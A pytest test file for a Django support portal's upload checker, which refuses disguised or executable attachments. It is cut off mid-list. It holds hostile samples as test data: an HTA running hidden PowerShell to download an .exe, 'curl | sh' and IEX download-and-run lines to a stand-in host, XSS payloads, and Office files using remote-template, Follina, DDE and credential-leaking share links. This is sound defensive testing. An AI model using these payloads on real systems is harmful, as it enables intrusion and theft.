"""What a file is comes from its bytes, never from its name (issue 13, item 4; review finding I2).

Every case uses a real file built here: Word and Excel documents made with zipfile with the parts
Office writes, a macro-enabled document, a ZIP of a program dressed as Word, an HTA, an SVG with a
script, a PNG renamed .exe, scripts named as text and text named as scripts. They go through the
real pages (opening a ticket, replying, billing requests, PO supports) and come back through the
real downloads, the staff admin's included."""

import html
import io
import struct
import zipfile
import zlib

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from billing.models import BillingAttachment, PurchaseOrderRequest
from contacts.models import PoAddress
from tests.conftest import staff_login
from tests.factories import PDF_BYTES, ServiceFactory, UserFactory, invoice_with_lines
from tests.factories import ticket_open_for as _open
from tickets.models import Attachment, Message

pytestmark = pytest.mark.django_db

_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200 + b"PE\x00\x00"
HTA = (
    b"<html><head><title>Speedtest results</title>\n"
    b'<hta:application id="speedtest" windowstate="minimize"/>\n'
    b'<script language="VBScript">\nSet shell = CreateObject("WScript.Shell")\n'
    b'shell.Run "powershell -w hidden -c iwr http://198.51.100.7/a.exe"\n</script>\n'
    b"</head><body>Speed: 940 Mbps</body></html>\n"
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
    b"<rect width='10' height='10'/><script>fetch('/users/').then(r => r.text())</script></svg>\n"
)
LOG = (
    "2026-12-07 03:12:44 ge-0/0/1 link down (LOS)\n"
    "2026-12-07 03:12:45 BGP 203.0.113.1 Idle -> Active\n"
    "2026-12-07 03:40:02 ge-0/0/1 link up, 1000 Mbps full duplex · señal −7.2 dBm\n"
).encode()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _types(*overrides: tuple[str, str], defaults: str = "") -> bytes:
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    return (
        f'{_XML}<Types xmlns="{_CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f"{defaults}{parts}</Types>"
    ).encode()


def _rels(target: str) -> bytes:
    return (
        f'{_XML}<Relationships xmlns="{_REL}"><Relationship Id="rId1" '
        f'Type="{_OFFICE_DOC}" Target="{target}"/></Relationships>'
    ).encode()


def docx(main_type: str = _WORD_MAIN, extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document with the parts Word itself writes first."""
    body = (
        f'{_XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
        'main"><w:body><w:p><w:r><w:t>Speedtest: 940 Mbps down, 310 Mbps up</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    return _zip(
        {
            "[Content_Types].xml": _types(("/word/document.xml", main_type)),
            "_rels/.rels": _rels("word/document.xml"),
            "word/document.xml": body,
            **(extra or {}),
        }
    )


def xlsx() -> bytes:
    workbook = (
        f'{_XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Latency" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode()
    sheet = (
        f'{_XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1"><v>42</v></c></row></sheetData></worksheet>'
    ).encode()
    sheet_rel = (
        f'{_XML}<Relationships xmlns="{_REL}"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>'
    ).encode()
    return _zip(
        {
            "[Content_Types].xml": _types(
                ("/xl/workbook.xml", _XLSX_MAIN), ("/xl/worksheets/sheet1.xml", _SHEET)
            ),
            "_rels/.rels": _rels("xl/workbook.xml"),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": sheet_rel,
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def png() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x0b\x5c\xab")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.fixture
def service(customer):
    return ServiceFactory(customer=customer, service_id="AR-BUE-IPVPN-20001")


@pytest.fixture
def ticket(customer, portal_admin_user, service):
    return _open(customer, portal_admin_user, service=service)


def _reply(client, ticket, name: str, content: bytes):
    return client.post(
        reverse("tickets:reply", args=[ticket.number]),
        {"body": "See the file", "attachments": [SimpleUploadedFile(name, content)]},
    )


def _download(client, ticket, attachment):
    response = client.get(reverse("tickets:attachment", args=[ticket.number, attachment.reference]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    response.close()
    return response, body


# --- accepted: stored and served as what they are ----------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "stored_type", "served_as"),
    [
        ("Speedtest.docx", docx(), DOCX, "Speedtest.docx"),
        ("latencia.xlsx", xlsx(), XLSX, "latencia.xlsx"),
        ("screenshot.exe", png(), "image/png", "screenshot.png"),
        ("router.log", LOG, "text/plain", "router.txt"),
        ("informe", PDF_BYTES, "application/pdf", "informe.pdf"),
    ],
)
def test_a_file_is_stored_and_served_as_its_content_says(
    portal_admin_client, ticket, name, content, stored_type, served_as
):
    assert _reply(portal_admin_client, ticket, name, content).status_code == 302

    attachment = Attachment.objects.get()
    assert attachment.content_type == stored_type
    assert attachment.filename == served_as  # the page and the e-mails show this name too
    response, body = _download(portal_admin_client, ticket, attachment)
    assert response["Content-Disposition"] == f'attachment; filename="{served_as}"'
    assert response["Content-Type"] == stored_type
    assert body == content


# --- refused: text that runs, and names that say so ----------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("Speedtest-results.hta", HTA, ".hta files can run on the computer"),
        ("Speedtest-results.txt", HTA, "contains HTA code"),
        ("diagram.svg", SVG, ".svg files can run"),
        ("diagram.txt", SVG, "contains SVG code"),
        ("page.log", b"<!DOCTYPE html><html><body>Hi</body></html>", "contains HTML code"),
        ("note.txt", b"<p>Hello</p>\n<img src=x onerror=alert(1)>\n", "contains HTML code"),
        ("check.js", b"console.log('ping 8.8.8.8');\n", ".js files can run"),
        (
            "check.txt",
            b'var s = new ActiveXObject("WScript.Shell");\n',
            "contains VBScript / JScript code",
        ),
        ("fix.vbs", b'MsgBox "hi"\n', ".vbs files can run"),
        (
            "fix.txt",
            b'Set o = CreateObject("Shell.Application")\n',
            "contains VBScript / JScript code",
        ),
        ("reset.ps1", b"Get-NetAdapter\n", ".ps1 files can run"),
        (
            "reset.txt",
            b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')\n",
            "contains PowerShell code",
        ),
        ("reset.bat", b"ipconfig /all\n", ".bat files can run"),
        (
            "reset.log",
            b"@echo off\r\nipconfig /release\r\nstart calc.exe\r\n",
            "contains batch code",
        ),
        (
            "deploy.txt",
            b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n",
            "contains shell script code",
        ),
    ],
)
def test_markup_and_scripts_are_refused_though_they_are_text(
    portal_admin_client, ticket, name, content, says
):
    response = _reply(portal_admin_client, ticket, name, content)

    assert response.status_code == 400
    page = response.content.decode()
    assert name in page, page
    assert says in page, page
    assert not Attachment.objects.exists()
    assert not Message.objects.filter(body="See the file").exists()


def test_text_with_a_program_after_the_first_8_kb_is_refused(portal_admin_client, ticket):
    """The whole file is read, not a sample of its head."""
    content = LOG * 200 + EXE  # about 28 KB of log, then a Windows program
    assert len(LOG * 200) > 8192

    response = _reply(portal_admin_client, ticket, "router.log", content)

    assert response.status_code == 400
    assert "router.log is not a file type we accept." in response.content.decode()


def test_a_script_deep_in_a_long_log_is_found(portal_admin_client, ticket):
    content = LOG * 30_000 + b"<script>document.location='//198.51.100.7'</script>\n" + LOG
    assert len(content) > 2 * 1024 * 1024  # several of the check's 1 MB chunks

    response = _reply(portal_admin_client, ticket, "router.log", content)

    assert response.status_code == 400
    assert "contains HTML code" in response.content.decode()


# --- Office documents are opened and their members listed ---------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        # A macro-enabled document renamed .docx: its content types and its vbaProject.bin.
        (
            "informe.docx",
            docx(_DOCM_MAIN, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}),
            "contains macros or embedded programs (vbaproject.bin)",
        ),
        # Normal content types, but a macro project inside all the same.
        (
            "informe2.docx",
            docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}),
            "contains macros or embedded programs (vbaproject.bin)",
        ),
        ("planilla.xlsm", xlsx(), "contains macros or embedded programs (.xlsm)"),
        # An OLE package (an embedded program) in an otherwise plain document.
        (
            "informe3.docx",
            docx(extra={"word/embeddings/oleObject1.bin": EXE}),
            "contains macros or embedded programs (oleobject1.bin)",
        ),
    ],
)
def test_macros_and_embedded_programs_are_refused(portal_admin_client, ticket, name, content, says):
    response = _reply(portal_admin_client, ticket, name, content)

    assert response.status_code == 400
    assert says in response.content.decode()
    assert not Attachment.objects.exists()


def test_a_zip_of_a_program_dressed_as_word_is_refused(portal_admin_client, ticket):
    """filetype calls any ZIP whose first member starts with word/ a Word document."""
    archive = _zip({"word/readme.txt": b"Open setup.exe", "setup.exe": EXE})
    import filetype

    assert filetype.guess(archive).extension == "docx"  # what the old check trusted

    response = _reply(portal_admin_client, ticket, "drivers.docx", archive)

    assert response.status_code == 400
    assert "drivers.docx contains macros or embedded programs (setup.exe)" in (
        response.content.decode()
    )
    assert not Attachment.objects.exists()


def test_a_zip_that_is_no_office_document_is_refused(portal_admin_client, ticket):
    archive = _zip({"word/document.xml": b"<w:document/>", "capture.pcap": b"\xd4\xc3\xb2\xa1"})

    response = _reply(portal_admin_client, ticket, "capturas.docx", archive)

    assert response.status_code == 400
    assert "capturas.docx is a ZIP archive, not a Word or Excel document." in (
        response.content.decode()
    )


def test_an_archive_past_the_caps_is_refused_without_expanding_it(
    portal_admin_client, ticket, monkeypatch
):
    from core.lib import uploads

    monkeypatch.setattr(uploads, "OFFICE_MAX_EXPANDED_MB", 1)
    bomb = docx(extra={"word/media/filler.xml": b"\x00" * (2 * 1024 * 1024)})
    assert len(bomb) < 20_000  # 2 MB of zeros compress to a few KB
    response = _reply(portal_admin_client, ticket, "bomba.docx", bomb)
    assert response.status_code == 400
    assert "bomba.docx has more than 2000 parts or expands to more than 1 MB" in (
        response.content.decode()
    )

    monkeypatch.setattr(uploads, "OFFICE_MAX_EXPANDED_MB", 250)
    many = docx(extra={f"word/media/part{n}.xml": b"<x/>" for n in range(2001)})
    response = _reply(portal_admin_client, ticket, "partes.docx", many)
    assert response.status_code == 400
    assert "partes.docx has more than 2000 parts" in response.content.decode()


def test_a_damaged_office_file_is_refused(portal_admin_client, ticket):
    response = _reply(portal_admin_client, ticket, "roto.docx", docx()[:200])
    assert response.status_code == 400
    assert "roto.docx is a damaged or password-protected file" in response.content.decode()


def test_opening_a_ticket_checks_its_files_the_same_way(portal_admin_client, service):
    form = {
        "services": [service.service_id],
        "impact": "down",
        "problem_started_at": "2020-01-01T08:00",
        "subject": "Link down",
        "description": "No traffic",
        "site_contact_name": "Nico",
        "site_contact_phone": "+54 11 5555 0101",
        "access_hours": "24x7",
    }
    refused = portal_admin_client.post(
        reverse("tickets:create"),
        {**form, "attachments": [SimpleUploadedFile("Speedtest-results.txt", HTA)]},
    )
    assert refused.status_code == 400
    assert "Speedtest-results.txt contains HTA code" in refused.content.decode()

    accepted = portal_admin_client.post(
        reverse("tickets:create"), {**form, "attachments": [SimpleUploadedFile("a.exe", png())]}
    )
    assert accepted.status_code == 302
    assert Attachment.objects.get().filename == "a.png"


# --- downloads: staff admin, files stored before this check, billing -----------------------------


def test_staff_download_a_file_stored_before_the_check_as_text(client, ticket, portal_admin_user):
    """Rows written by the old check keep their uploaded name; the download still takes its
    extension from the stored type."""
    staff = UserFactory(email="tsc2@provider.test", is_staff=True)
    staff.groups.add(Group.objects.get(name="TSC"))
    staff_login(client, staff)
    old = Attachment.objects.create(
        ticket=ticket,
        file=SimpleUploadedFile("x", b"Speed: 940 Mbps\n"),
        filename="Speedtest-results.hta",
        content_type="text/plain",
        size=16,
        uploaded_by=portal_admin_user,
    )

    response = client.get(reverse("admin:tickets_ticket_attachment", args=[old.reference]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="Speedtest-results.txt"'
    assert response["Content-Type"] == "text/plain"
    response.close()


def test_billing_request_files_are_checked_and_named_the_same_way(portal_admin_client, customer):
    invoice = invoice_with_lines(customer, number="FA-0001-00000077")
    form = {
        "kind": "question",
        "subject": "Lines",
        "description": "Why?",
        "invoice": invoice.number,
    }

    refused = portal_admin_client.post(
        reverse("billing:request_create"),
        {**form, "attachments": [SimpleUploadedFile("detalle.txt", HTA)]},
    )
    assert refused.status_code == 400
    assert "detalle.txt contains HTA code" in refused.content.decode()

    accepted = portal_admin_client.post(
        reverse("billing:request_create"),
        {**form, "attachments": [SimpleUploadedFile("detalle.exe", png())]},
    )
    assert accepted.status_code == 302
    stored = BillingAttachment.objects.get()
    assert (stored.filename, stored.content_type) == ("detalle.png", "image/png")
    url = reverse("billing:request_attachment", args=[stored.request.number, stored.reference])
    response = portal_admin_client.get(url)
    assert response["Content-Disposition"] == 'attachment; filename="detalle.png"'
    response.close()


def test_a_po_support_is_named_for_its_content_in_the_portal_and_the_email(
    portal_admin_client, customer, mailoutbox, django_capture_on_commit_callbacks
):
    PoAddress.objects.all().delete()
    PoAddress.objects.create(countries=[customer.country], email="po@provider.test")
    invoice = invoice_with_lines(customer, number="FA-0001-00000078")
    form = {"kind": "po", "reference": "4500012345", "invoices": [invoice.number]}

    refused = portal_admin_client.post(
        reverse("billing:po_request_create"),
        {**form, "support": SimpleUploadedFile("orden.pdf", b"%PDF-1.4\n<html><script>x</script>")},
    )
    assert refused.status_code == 400
    assert not PurchaseOrderRequest.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        response = portal_admin_client.post(
            reverse("billing:po_request_create"),
            {**form, "support": SimpleUploadedFile("orden.exe", png())},
        )
    assert response.status_code == 302
    po = PurchaseOrderRequest.objects.get()
    assert (po.support_name, po.support_type) == ("orden.png", "image/png")
    download = portal_admin_client.get(reverse("billing:po_request_support", args=[po.number]))
    assert download["Content-Disposition"] == 'attachment; filename="orden.png"'
    download.close()
    (sent,) = [m for m in mailoutbox if "po@provider.test" in m.to[0]]
    assert [name for name, _content, _type in sent.attachments] == ["orden.png"]


def test_an_invoice_pdf_must_be_a_whole_pdf(client, customer):
    from billing.importing import invoice_pdf_check
    from core.errors import DomainError

    with pytest.raises(DomainError, match="its content is not a complete PDF document"):
        invoice_pdf_check(SimpleUploadedFile("fa.pdf", b"%PDF-1.4\n<html><script>x</script>\n"))
    invoice_pdf_check(SimpleUploadedFile("fa.pdf", PDF_BYTES))


def test_the_whole_file_check_stays_fast_on_text_made_to_slow_it_down():
    """The whole text is searched; text built to make the patterns backtrack (tag-like starts
    everywhere) must not tie up a worker. Measured: about 0.15 s for these 4 MB on 2 vCPUs."""
    import time

    from core.lib.uploads import content_type_sniff

    adversarial = SimpleUploadedFile("x.log", b"<a b<a b onxyz <a b " * (4 * 1024 * 1024 // 20))
    started = time.perf_counter()

    assert content_type_sniff(adversarial) == "text/plain"
    assert time.perf_counter() - started < 5


# --- Office documents: what their parts are, what they load from outside (QA review) ----------
# A Word document laid out as Word writes it, with pictures, links and a thumbnail, and an Excel
# workbook with links, a picture and printer settings: both stay accepted. Each refused case is
# one of them with one part added or replaced.

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STRICT_RELS = "http://purl.oclc.org/ooxml/officeDocument/relationships"
_ACTIVEX_TYPE = "application/vnd.ms-office.activeX+xml"
_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
_SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
_IMAGE_DEFAULTS = (
    '<Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="jpeg" ContentType="image/jpeg"/>'
    '<Default Extension="emf" ContentType="image/x-emf"/>'
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
OLE = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 90
)
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def emf() -> bytes:
    """A real (empty) enhanced metafile: its header record and its end-of-file record."""
    header = struct.pack(
        "<II4i4i4sIIIHHIII2i2i",
        1, 88, 0, 0, 9, 9, 0, 0, 254, 254, b" EMF", 0x10000, 108, 2, 1, 0, 0, 0, 0,
        1920, 1080, 508, 286,
    )  # fmt: skip
    return header + struct.pack("<IIIII", 14, 20, 0, 16, 20)


def relationships(*rows: tuple[str, str, str]) -> bytes:
    """A .rels part: (type, target, target mode) for each relationship, mode '' if internal."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(rows, start=1)
    )
    return f'{_XML}<Relationships xmlns="{_REL}">{items}</Relationships>'.encode()


def _word_members() -> dict[str, bytes]:
    body = (
        f'{_XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
        'main"><w:body><w:p><w:r><w:t>Traceroute to 203.0.113.9, see the diagram</w:t></w:r>'
        "</w:p></w:body></w:document>"
    ).encode()
    package = "http://schemas.openxmlformats.org/package/2006/relationships/metadata"
    return {
        "[Content_Types].xml": _types(
            ("/word/document.xml", _WORD_MAIN),
            ("/word/settings.xml", _SETTINGS),
            defaults=_IMAGE_DEFAULTS,
        ),
        "_rels/.rels": relationships(
            (f"{_RELS}/officeDocument", "word/document.xml", ""),
            (f"{package}/thumbnail", "docProps/thumbnail.jpeg", ""),
        ),
        "docProps/thumbnail.jpeg": JPEG_BYTES,
        "word/document.xml": body,
        "word/settings.xml": f"{_XML}<w:settings xmlns:w='x'/>".encode(),
        "word/_rels/document.xml.rels": relationships(
            (f"{_RELS}/settings", "settings.xml", ""),
            (f"{_RELS}/image", "media/image1.png", ""),
            (f"{_RELS}/image", "media/image2.emf", ""),
            (f"{_RELS}/image", "media/image3.jpeg", ""),
            (
                f"{_RELS}/hyperlink",
                "https://status.example.net/incident?id=42&amp;l=es",
                "External",
            ),
            (f"{_RELS}/hyperlink", "mailto:noc@example.org", "External"),
            (f"{_RELS}/hyperlink", "file:///C:/Informes/enlace.docx", "External"),
        ),  # fmt: skip
        "word/media/image1.png": png(),
        "word/media/image2.emf": emf(),
        "word/media/image3.jpeg": JPEG_BYTES,
    }


def _excel_members() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(xlsx())) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members["xl/worksheets/_rels/sheet1.xml.rels"] = relationships(
        (f"{_RELS}/hyperlink", "https://lookingglass.example.net/", "External"),
        (f"{_RELS}/drawing", "../drawings/drawing1.xml", ""),
        (f"{_RELS}/printerSettings", "../printerSettings/printerSettings1.bin", ""),
    )
    members["xl/drawings/drawing1.xml"] = f"{_XML}<xdr:wsDr xmlns:xdr='x'/>".encode()
    members["xl/drawings/_rels/drawing1.xml.rels"] = relationships(
        (f"{_RELS}/image", "../media/image1.png", "")
    )
    members["xl/media/image1.png"] = png()
    # A DEVMODE as Excel keeps it: the printer's name in UTF-16, then its settings.
    members["xl/printerSettings/printerSettings1.bin"] = "HP LaserJet".encode("utf-16-le").ljust(
        64, b"\x00"
    ) + struct.pack("<HHHH", 0x0401, 0x0401, 220, 0)
    return members


def word(extra: dict[str, bytes] | None = None) -> bytes:
    return _zip({**_word_members(), **(extra or {})})


def excel(extra: dict[str, bytes] | None = None) -> bytes:
    return _zip({**_excel_members(), **(extra or {})})


def _refused(client, ticket, name: str, content: bytes) -> str:
    response = _reply(client, ticket, name, content)
    assert response.status_code == 400
    assert not Attachment.objects.exists()
    return html.unescape(response.content.decode())


def test_office_files_laid_out_as_office_writes_them_are_accepted(portal_admin_client, ticket):
    assert _reply(portal_admin_client, ticket, "traceroute.docx", word()).status_code == 302
    assert _reply(portal_admin_client, ticket, "lg.xlsx", excel()).status_code == 302
    assert sorted(Attachment.objects.values_list("content_type", flat=True)) == sorted([DOCX, XLSX])


def _activex_control() -> bytes:
    """An ActiveX control kept as XML (persistPropertyBag): no .bin part at all."""
    return (
        f'{_XML}<ax:ocx ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" '
        'ax:persistence="persistPropertyBag" xmlns:ax="http://schemas.microsoft.com/office/2006/'
        'activeX"><ax:ocxPr ax:name="Caption" ax:value="Run diagnostics"/></ax:ocx>'
    ).encode()


def _word_types(*overrides: tuple[str, str]) -> bytes:
    return _types(
        ("/word/document.xml", _WORD_MAIN),
        ("/word/settings.xml", _SETTINGS),
        *overrides,
        defaults=_IMAGE_DEFAULTS,
    )


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        (
            "diagnostico.docx",
            word(
                {
                    "word/activeX/activeX1.xml": _activex_control(),
                    "[Content_Types].xml": _word_types(
                        ("/word/activeX/activeX1.xml", _ACTIVEX_TYPE)
                    ),
                }
            ),
            "contains ActiveX controls or embedded objects (word/activeX/activeX1.xml)",
        ),
        # The part alone, without its content type declared...
        (
            "diagnostico2.docx",
            word({"word/activeX/activeX1.xml": _activex_control()}),
            "contains ActiveX controls or embedded objects (word/activeX/activeX1.xml)",
        ),
        (
            "planilla.xlsx",
            excel({"xl/activeX/activeX1.xml": _activex_control()}),
            "contains ActiveX controls or embedded objects (xl/activeX/activeX1.xml)",
        ),
        # ...and the content types alone, whatever the parts are called.
        (
            "diagnostico3.docx",
            word({"[Content_Types].xml": _word_types(("/word/c/c1.xml", _ACTIVEX_TYPE))}),
            f"contains ActiveX controls or embedded objects ({_ACTIVEX_TYPE})",
        ),
        (
            "diagnostico4.docx",
            word({"[Content_Types].xml": _word_types(("/word/o/o1.dat", _OLE_TYPE))}),
            f"contains ActiveX controls or embedded objects ({_OLE_TYPE})",
        ),
        # An Excel 4.0 macro sheet: macros without a VBA project.
        (
            "macro4.xlsx",
            excel(
                {
                    "[Content_Types].xml": _types(
                        ("/xl/workbook.xml", _XLSX_MAIN),
                        ("/xl/worksheets/sheet1.xml", _SHEET),
                        ("/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"),
                    )
                }
            ),
            "contains macros or embedded programs (application/vnd.ms-excel.macrosheet+xml)",
        ),
    ],
)
def test_activex_and_macros_without_a_bin_part_are_refused(
    portal_admin_client, ticket, name, content, says
):
    page = _refused(portal_admin_client, ticket, name, content)
    assert f"{name} {says}" in page, page


_FOLLINA = "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html"


@pytest.mark.parametrize(
    ("name", "extra", "says"),
    [
        # Remote template injection: Word fetches a template, and runs its macros.
        (
            "plantilla.docx",
            {
                "word/_rels/settings.xml.rels": relationships(
                    (f"{_RELS}/attachedTemplate", "http://198.51.100.7/t/normal.dotm", "External")
                )
            },
            "loads attachedTemplate from outside the file when it is opened "
            "(http://198.51.100.7/t/normal.dotm)",
        ),
        # CVE-2022-30190 (Follina): an OLE object that is an mhtml: link.
        (
            "follina.docx",
            {
                "word/_rels/document.xml.rels": relationships(
                    (f"{_RELS}/oleObject", _FOLLINA, "External")
                )
            },
            "loads oleObject from outside the file when it is opened (mhtml:http://198.51.100.7",
        ),
        (
            "marco.docx",
            {
                "word/_rels/webSettings.xml.rels": relationships(
                    (f"{_RELS}/frame", "http://198.51.100.7/f.docx", "External")
                )
            },
            "loads frame from outside the file",
        ),
        (
            "maestro.docx",
            {
                "word/_rels/document.xml.rels": relationships(
                    (f"{_RELS}/subDocument", "\\\\198.51.100.7\\share\\s.docx", "External")
                )
            },
            "loads subDocument from outside the file",
        ),
        # A picture from a share: opening the file sends the reader's Windows credentials.
        (
            "pixel.docx",
            {
                "word/_rels/document.xml.rels": relationships(
                    (f"{_RELS}/image", "file://198.51.100.7/p.png", "External")
                )
            },
            "loads image from outside the file",
        ),
        (
            "control.docx",
            {
                "word/_rels/document.xml.rels": relationships(
                    (f"{_RELS}/control", "http://198.51.100.7/c.ocx", "External")
                )
            },
            "loads control from outside the file",
        ),
        (
            "paquete.docx",
            {
                "word/_rels/document.xml.rels": relationships(
                    (f"{_STRICT_RELS}/package", "http://198.51.100.7/p.xlsx", "External")
                )
            },
            "loads package from outside the file",
        ),
        (
            "vinculo.xlsx",
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                    (f"{_RELS}/externalLinkPath", "\\\\198.51.100.7\\c$\\libro.xlsx", "External")
                )
            },
            "loads externalLinkPath from outside the file",
        ),
        # A DDE link: no relationship at all, Excel starts the program named in the part.
        (
            "dde.xlsx",
            {
                "xl/externalLinks/externalLink1.xml": (
                    f"{_XML}<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/"
                    "2006/main'><ddeLink ddeService='cmd' ddeTopic=\"/c calc.exe\"><ddeItems>"
                    "<ddeItem name='_x0031_' advise='1'/></ddeItems></ddeLink></externalLink>"
                ).encode()
            },
            "loads externalLink from outside the file when it is opened "
            "(xl/externalLinks/externalLink1.xml)",
        ),
        # Written so that a search of the raw bytes misses it, and the same to an XML parser:
        # a namespace prefix, character references, single quotes.
        (
            "oculto.docx",
            {
                "word/_rels/settings.xml.rels": (
                    f"{_XML}<r:Relationships xmlns:r='{_REL}'><r:Relationship Id='rId1' "
                    f"Type='{_RELS}/attached&#84;emplate' Target='http://198.51.100.7/t.dotm' "
                    "TargetMode='Ext&#101;rnal'/></r:Relationships>"
                ).encode()
            },
            "loads attachedTemplate from outside the file",
        ),
        (
            "utf16.docx",
            {
                "word/_rels/settings.xml.rels": relationships(
                    (f"{_RELS}/attachedTemplate", "http://198.51.100.7/t.dotm", "External")
                )
                .decode()
                .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                .encode("utf-16")
            },
            "loads attachedTemplate from outside the file",
        ),
    ],
)
def test_relationships_that_load_something_from_outside_are_refused(
    portal_admin_client, ticket, name, extra, says
):
    content = excel(extra) if name.endswith(".xlsx") else word(extra)
    page = _refused(portal_admin_client, ticket, name, content)
    assert f"{name} {says}" in page, page


@pytest.mark.parametrize(
    "target",
    [
        "ms-msdt:/id PCWDiagnostic /skip force /param IT_RebrowseForFile=x",
        "search-ms:query=setup&amp;crumb=location:\\\\198.51.100.7\\share",
        "javascript:alert(1)",
    ],
)
def test_a_link_that_starts_a_program_is_refused(portal_admin_client, ticket, target):
    """External hyperlinks stay allowed (the accepted document has web, mail and file links);
    a link to one of Windows' program handlers starts that program on one click."""
    extra = {
        "word/_rels/document.xml.rels": relationships((f"{_RELS}/hyperlink", target, "External"))
    }
    page = _refused(portal_admin_client, ticket, "enlace.docx", word(extra))
    assert "enlace.docx contains a link that starts a program on the reader's computer" in page


@pytest.mark.parametrize(
    ("name", "extra", "says"),
    [
        (
            "captura.docx",
            {"word/media/image1.png": EXE},
            "hides a program inside it (word/media/image1.png)",
        ),
        ("captura.xlsx", {"xl/media/image1.png": ELF}, "hides a program inside it (xl/media/"),
        ("datos.docx", {"customXml/item1.xml": EXE}, "hides a program inside it (customXml/"),
        (
            "libro.xlsx",
            {"xl/printerSettings/printerSettings1.bin": ELF},
            "hides a program inside it (xl/printerSettings/printerSettings1.bin)",
        ),
        (
            "script.docx",
            {"word/fonts/font1.odttf": b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"},
            "hides a program inside it (word/fonts/font1.odttf)",
        ),
        # Another archive or an OLE compound file (an old .doc, an .msi), under any name.
        (
            "grafico.docx",
            {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()},
            "has another file embedded in it (word/embeddings/Microsoft_Excel_Worksheet.xlsx)",
        ),
        (
            "foto.docx",
            {"word/media/image3.jpeg": OLE},
            "has another file embedded in it (word/media/image3.jpeg)",
        ),
        (
            "tema.docx",
            {"word/theme/theme1.xml": _zip({"setup.exe": EXE})},
            "has another file embedded in it (word/theme/theme1.xml)",
        ),
        (
            "gz.xlsx",
